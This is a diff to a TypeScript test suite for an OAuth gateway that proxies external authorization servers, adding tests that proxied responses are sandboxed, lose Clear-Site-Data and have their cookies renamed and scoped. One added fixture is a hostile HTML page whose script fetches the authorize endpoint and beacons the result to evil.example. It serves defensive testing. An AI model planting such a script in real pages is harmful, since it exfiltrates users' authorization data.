@@ -21,6 +21,11 @@ function rawRequest(method: string, url: string, body: string, headers: Record<s
   });
 }
 
+const HOSTILE_PAGE = '<!doctype html><script>fetch("/oauth2/authorize").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example", t))</script>';
+
+/** Each Content-Security-Policy the answer carries (a browser enforces all of them). */
+const policiesOf = (headers: Headers) => (headers.get('content-security-policy') ?? '').split(',').map((policy) => policy.trim());
+
 /**
  * The front proxy: a registered server's endpoints through the gateway at
  * /oauth2/servers/<name>/..., against a small upstream OAuth server.
@@ -47,6 +52,10 @@ describe('front proxy of external authorization servers', function () {
         return { headers: { 'Set-Cookie': ['oauth2.sid=planted; Path=/oauth2', 'up=1; Domain=gateway.example; Path=/; HttpOnly'] } };
       }
       if (req.url.startsWith('/authorize')) return { status: 302, headers: { Location: 'https://client.example/cb?code=up-code&state=s1' } };
+      if (req.url.startsWith('/page')) {
+        // A hostile upstream: HTML with a script from any endpoint, its own lenient policy, and a header that would act on the whole origin.
+        return { body: HOSTILE_PAGE, headers: { 'Content-Type': 'text/html', 'Content-Security-Policy': "script-src 'unsafe-inline'", 'Clear-Site-Data': '"cookies"' } };
+      }
       return { body: { access_token: 'upstream-token', token_type: 'Bearer', expires_in: 60 }, headers: { 'Cache-Control': 'no-store', Connection: 'X-Hop', 'X-Hop': 'only for this hop', 'X-Upstream': 'yes' } };
     });
     deadPort = await freePort();
@@ -59,10 +68,15 @@ describe('front proxy of external authorization servers', function () {
       createClient: { url: `${upstream.url}/clients` },
       removeClient: { url: `${upstream.url}/clients` }
     };
+    const hostile = `${upstream.url}/page`;
     const entries = [
       { name: 'upstream', endpoints, allowedGrants: ['client_credentials', 'password'], allowedResponseTypes: ['code'], loginRedirect: 'https://up.example/login', secrets: { 'known-client': 'known client secret' }, tokenStrategy: strategy },
       { name: 'open', endpoints: { token: { url: `${upstream.url}/token` } }, tokenStrategy: strategy },
       { name: 'lenient', endpoints: { token: endpoints.token, authorize: endpoints.authorize, introspection: endpoints.introspection }, secrets: { 'known-client': 'known client secret' }, tokenStrategy: strategy },
+      {
+        name: 'hostile', tokenStrategy: strategy,
+        endpoints: { token: { url: hostile }, introspection: { url: hostile }, revoke: { url: hostile }, createClient: { url: hostile }, removeClient: { url: hostile } }
+      },
       { name: 'down', endpoints: { token: { url: `http://127.0.0.1:${deadPort}/token` } }, tokenStrategy: strategy },
       { name: 'cookies', endpoints: { token: { url: `${upstream.url}/cookies` } }, tokenStrategy: strategy },
       { name: 'slow', endpoints: { token: { url: `${upstream.url}/slow`, timeout: 300 } }, tokenStrategy: strategy }
@@ -116,6 +130,24 @@ describe('front proxy of external authorization servers', function () {
     expect(res.status).to.equal(302);
     expect(res.headers.get('location')).to.equal('https://client.example/cb?code=up-code&state=s1');
     expect(upstream.received[0].url).to.equal('/authorize?tenant=t1&response_type=code&client_id=c&state=s1');
+    expect(policiesOf(res.headers), 'its pages\' scripts run in an opaque origin').to.deep.equal(['sandbox allow-forms allow-scripts']);
+  });
+
+  it('answers every proxied page or API answer with a sandbox policy and nosniff, whatever the upstream sent', async function () {
+    const answers = [
+      await request(`${base()}/hostile/token?grant_type=client_credentials`),
+      await postForm(`${base()}/hostile/token`, { grant_type: 'client_credentials' }),
+      await postForm(`${base()}/hostile/introspect`, { token: 't' }),
+      await postForm(`${base()}/hostile/revoke`, { token: 't' }),
+      await request(`${base()}/hostile/clients`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }),
+      await request(`${base()}/hostile/clients/c1`, { method: 'DELETE' })
+    ];
+    for (const res of answers) {
+      expect(res.text).to.equal(HOSTILE_PAGE);
+      expect(policiesOf(res.headers), 'the upstream\'s own policy stays, ours is added').to.deep.equal(["script-src 'unsafe-inline'", 'sandbox']);
+      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
+      expect(res.headers.get('clear-site-data'), 'an upstream cannot clear the gateway origin\'s cookies').to.equal(null);
+    }
   });
 
   it('adds a registered secret only for the code, refresh token and device code grants, for a client that sends only its client_id', async function () {
@@ -216,14 +248,21 @@ describe('front proxy of external authorization servers', function () {
     expect(upstream.received).to.have.length(0);
   });
 
-  it('confines the upstream\'s cookies to its own path and never lets it set the gateway\'s session cookie', async function () {
+  it('stores the upstream\'s cookies under names of their own server, confined to its path', async function () {
     const res = await request(`${base()}/cookies/token`, { method: 'POST' });
-    expect(res.headers.getSetCookie()).to.deep.equal(['up=1; HttpOnly; Path=/oauth2/servers/cookies/']);
+    // The planted session cookie is harmless once renamed: the browser keeps it apart from the gateway's own.
+    expect(res.headers.getSetCookie()).to.deep.equal([
+      'proxied~cookies~oauth2.sid=planted; Path=/oauth2/servers/cookies/',
+      'proxied~cookies~up=1; HttpOnly; Path=/oauth2/servers/cookies/'
+    ]);
   });
 
-  it('keeps the gateway\'s own session cookie from the upstream', async function () {
-    await postForm(`${base()}/upstream/introspect`, { token: 't' }, { Cookie: 'oauth2.sid=gateway-session; upstream-cookie=1' });
-    expect(upstream.received[0].headers.cookie).to.equal('upstream-cookie=1');
+  it('sends an upstream only the cookies it set itself, under their own names, never the origin\'s others', async function () {
+    const cookie = 'oauth2.sid=gateway-session; app-cookie=1; proxied~upstream~mine=2; proxied~open~theirs=3; proxied~upstream.x~other=4; proxied~upstream~more=a=b';
+    await postForm(`${base()}/upstream/introspect`, { token: 't' }, { Cookie: cookie });
+    expect(upstream.received[0].headers.cookie).to.equal('mine=2; more=a=b');
+    await postForm(`${base()}/upstream/introspect`, { token: 't' }, { Cookie: 'oauth2.sid=gateway-session; app-cookie=1' });
+    expect(upstream.received[1].headers.cookie).to.equal(undefined);
   });
 
   it('reaches the client create and remove endpoints and redirects to the login page', async function () {
